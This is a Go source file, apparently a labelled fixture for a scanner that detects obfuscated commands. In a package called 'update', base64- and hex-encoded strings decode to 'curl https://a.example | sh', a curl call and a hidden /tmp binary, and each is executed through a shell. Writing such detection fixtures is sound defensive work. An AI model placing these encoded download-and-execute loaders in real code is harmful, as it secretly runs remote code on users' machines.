package update

import (
	b64 "encoding/base64"
	"encoding/hex"
	"os/exec"
)

const body = "Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNo"

func direct() error {
	line, _ := b64.StdEncoding.DecodeString(body)
	return exec.Command("sh", "-c", string(line)).Run() // finding: decoded-command
}

func plain(text string) string {
	out, err := hex.DecodeString(text)
	if err != nil {
		return ""
	}
	return string(out)
}

func helper() error {
	return exec.Command("/bin/sh", "-c", plain("6375726c2068747470733a2f2f612e6578616d706c65")).Start() // finding: decoded-command
}

func named() error {
	name, _ := hex.DecodeString("2f746d702f2e63616368652f61")
	cmd := exec.Command(string(name)) // finding: decoded-command
	return cmd.Run()
}
